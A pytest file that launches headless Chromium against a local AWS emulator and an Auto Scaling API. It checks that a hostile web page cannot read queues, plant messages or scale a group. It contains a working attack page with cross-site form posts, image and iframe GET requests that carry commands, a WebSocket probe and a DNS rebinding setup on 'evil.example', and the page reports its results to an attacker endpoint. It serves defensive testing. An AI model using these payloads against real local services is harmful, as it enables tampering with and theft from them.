"""The door and a real browser: what a page of a foreign site can do to a rig. See `make browser`.

It is no test of `make test`, because the project installs no browser; what browsers send is in
test_door.py and ../autoscaling/test_guard.py. Chromium resolves the page's name to the machine
itself, so its own rules for local networks do not hide what the door does; an open server, which
the page does reach, shows that each attempt can succeed.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any, Final

import pytest
from support.builders.sessions import GUARD, SESSION
from support.emulators.serving import served
from support.fakes.groups import NAME, GroupInMemory, group_of_two

from tidemill.rig.autoscaling.server import serving
from tidemill.rig.local_aws.clients import LocalClients
from tidemill.rig.local_aws.ministack import local_aws

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

EVIL: Final = "evil.example"
PATIENCE: Final = 60.0
PAGE: Final = """<!doctype html><meta charset=utf-8><script>
const asks = __ASKS__, report = "__REPORT__", said = {};
async function ask(name, url, options) {
  try {
    const answer = await fetch(url, {signal: AbortSignal.timeout(10000), ...options});
    said[name] = [answer.type, answer.status, (await answer.text()).slice(0, 2000)];
  } catch (error) { said[name] = ["error", 0, String(error)]; }
}
function element(kind, url) {
  return new Promise(done => {
    const made = document.createElement(kind);
    made.onload = made.onerror = () => done();
    setTimeout(done, 5000);
    made.src = url;
    document.body.append(made);
  });
}
function socket(url) {
  return new Promise(done => {
    const made = new WebSocket(url.replace("http", "ws"));
    made.onopen = () => done("open");
    made.onerror = () => done("error");
  });
}
addEventListener("load", async () => {
  for (const [name, url, options] of asks) {
    if (options.element) await element(options.element, url);
    else if (options.socket) said[name] = [await socket(url), 0, ""];
    else await ask(name, url, options);
  }
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(said)});
});
</script><body></body>"""
FORM: Final = {"Content-Type": "application/x-www-form-urlencoded"}

Said = dict[str, list[Any]]


class _Site(ThreadingHTTPServer):
    """A server of the attacker: its page, its reports, and an open endpoint to compare with."""

    daemon_threads = True

    def __init__(self, address: tuple[str, int] = ("127.0.0.1", 0)) -> None:
        super().__init__(address, _Handler)
        self.page = ""
        self.reported: Said = {}
        self.done = threading.Event()
        self.seen: list[str] = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


class _Handler(BaseHTTPRequestHandler):
    server: _Site

    def do_GET(self) -> None:
        """Send the page, which the browser may keep, or be an open endpoint."""
        if self.path == "/page":
            self._send(self.server.page, "text/html", "max-age=3600")
        else:
            self.server.seen.append(f"GET {self.path}")
            self._send("a secret of the open server", "text/plain", "no-store")

    def do_POST(self) -> None:
        """Take a report, or be an open endpoint."""
        body = self.rfile.read(int(self.headers.get("Content-Length", "0"))).decode()
        if self.path == "/report":
            self.server.reported = json.loads(body)
            self.server.done.set()
        else:
            self.server.seen.append(f"POST {body}")
        self._send("a secret of the open server", "text/plain", "no-store")

    def do_OPTIONS(self) -> None:
        """Allow everything."""
        self._send("", "text/plain", "no-store")

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - http.server's name
        """Print nothing."""

    def _send(self, text: str, kind: str, kept: str) -> None:
        self.send_response(200)
        for name in ("Origin", "Headers", "Methods"):
            self.send_header(f"Access-Control-Allow-{name}", "*")
        self.send_header("Content-Type", kind)
        self.send_header("Cache-Control", kept)
        self.send_header("Content-Length", str(len(text.encode())))
        self.end_headers()
        self.wfile.write(text.encode())


@contextmanager
def site(address: tuple[str, int] = ("127.0.0.1", 0)) -> Iterator[_Site]:
    """Serve one of the attacker's sites."""
    with served(_Site(address)) as server:
        yield server


def visit(url: str, profile: Path, evil_is: str, reports: _Site) -> Said:
    """Open a page in Chromium; return what the page reports."""
    browser = os.environ.get("BROWSER") or shutil.which("chromium") or shutil.which("google-chrome")
    if not browser:
        pytest.fail("no Chromium: install it, or set BROWSER to its path")
    reports.done.clear()
    process = subprocess.Popen(
        [
            browser,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            f"--user-data-dir={profile}",
            f"--host-resolver-rules=MAP {EVIL} {evil_is}",
            "--proxy-server=direct://",
            url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert reports.done.wait(PATIENCE), "the page did not report"
    finally:
        process.terminate()
        process.wait(PATIENCE)
    return reports.reported


def page(asks: list[tuple[str, str, dict[str, object]]], reports: _Site) -> str:
    """Return a page that asks these, in order, and reports what it got."""
    made = PAGE.replace("__ASKS__", json.dumps(asks))
    return made.replace("__REPORT__", f"{reports.url}/report")


def attempts(aws: str, scaling: str, queue: str) -> list[tuple[str, str, dict[str, object]]]:
    """Return what a page may try at a local AWS and at an Auto Scaling API."""
    send = f"Action=SendMessage&Version=2012-11-05&QueueUrl={queue}&MessageBody=planted"
    scale = f"Action=SetDesiredCapacity&AutoScalingGroupName={NAME}&DesiredCapacity=4"
    target = {"X-Amz-Target": "AmazonSQS.ListQueues", "Content-Type": "application/x-amz-json-1.0"}
    blind: dict[str, object] = {"method": "POST", "mode": "no-cors", "headers": FORM}
    return [
        ("send blindly", aws, {**blind, "body": send}),
        ("send by get", f"{aws}/?{send}", {"element": "img"}),
        ("send in a frame", f"{aws}/?{send}", {"element": "iframe"}),
        ("read", f"{aws}/?Action=ListQueues", {}),
        ("read with a preflight", aws, {"method": "POST", "headers": target, "body": "{}"}),
        ("reset", f"{aws}/_ministack/reset", {"method": "POST", "mode": "no-cors"}),
        ("health", f"{aws}/_ministack/health", {}),
        ("socket", aws, {"socket": True}),
        ("scale blindly", scaling, {**blind, "body": scale}),
        ("scale by get", f"{scaling}/?{scale}", {"element": "img"}),
        ("read the group", f"{scaling}/?Action=DescribeAutoScalingGroups", {}),
        ("fault", f"{scaling}/_tidemill/faults?kind=spot", {"method": "POST", "mode": "no-cors"}),
    ]


@contextmanager
def victim(folder: Path) -> Iterator[tuple[str, str, LocalClients, GroupInMemory]]:
    """Run a local AWS with a queue, and an Auto Scaling API, as a rig does."""
    group = group_of_two()
    with local_aws(folder, 0, "us-east-1", SESSION) as aws, serving(group, GUARD) as scaling:
        yield aws.url, scaling, LocalClients(aws.url, SESSION), group


def assert_unharmed(said: Said, clients: LocalClients, group: GroupInMemory, queue: str) -> None:
    """Check that the page has read nothing, sent nothing and scaled nothing."""
    for name, (_, _, text) in said.items():
        assert "Queue" not in text, name
        assert NAME not in text, name
        assert "services" not in text, name
    assert said["socket"][0] == "error"
    assert "Messages" not in clients.sqs.receive_message(QueueUrl=queue)
    assert (group.memory.desired, group.faults) == (2, [])


def test_a_page_of_a_foreign_site_can_neither_read_nor_send_nor_scale(tmp_path: Path) -> None:
    """The same page reads and changes an open server, so its attempts are real ones."""
    with site() as evil, victim(tmp_path) as (aws, scaling, clients, group):
        queue = clients.sqs.create_queue(QueueName="jobs")["QueueUrl"]
        asks = attempts(aws, scaling, queue)
        asks += [
            (f"open {name}", evil.url + "/" + name.replace(" ", "-"), options)
            for name, _, options in asks
            if "socket" not in options
        ]
        evil.page = page(asks, evil)
        port = evil.server_address[1]
        said = visit(f"http://{EVIL}:{port}/page", tmp_path / "profile", "127.0.0.1", evil)
        assert_unharmed(said, clients, group, queue)
        assert said["read"][0] == said["read the group"][0] == "error", "the browser hides it"
        assert said["open read"][1:] == [200, "a secret of the open server"]
        assert any(line.startswith("POST Action=SendMessage") for line in evil.seen)
        assert "GET /scale-by-get" in evil.seen


def test_a_page_whose_name_is_bound_to_this_machine_afterwards_gets_no_further(
    tmp_path: Path,
) -> None:
    """DNS rebinding: the browser has the page from its own address, then its name leads here.

    For the browser everything is then of one origin, so it hides nothing from the page.
    """
    with site() as reports, victim(tmp_path) as (aws, scaling, clients, group):
        queue = clients.sqs.create_queue(QueueName="jobs")["QueueUrl"]
        for where in (aws, scaling):
            port = int(where.rpartition(":")[2])
            at_evil = f"http://{EVIL}:{port}"
            asks = attempts(at_evil, at_evil, queue)
            profile = tmp_path / f"profile-{port}"
            with site(("127.0.0.2", port)) as evil:
                evil.page = page(asks, reports)
                first = visit(f"{at_evil}/page", profile, "127.0.0.2", reports)
                assert first["read"] == ["basic", 200, "a secret of the open server"]
            said = visit(f"{at_evil}/page", profile, "127.0.0.1", reports)
            assert said["read"][:2] == ["basic", 403], "of its own origin, and refused"
            assert "this endpoint has no name" in said["read"][2] or "web pages" in said["read"][2]
            assert_unharmed(said, clients, group, queue)
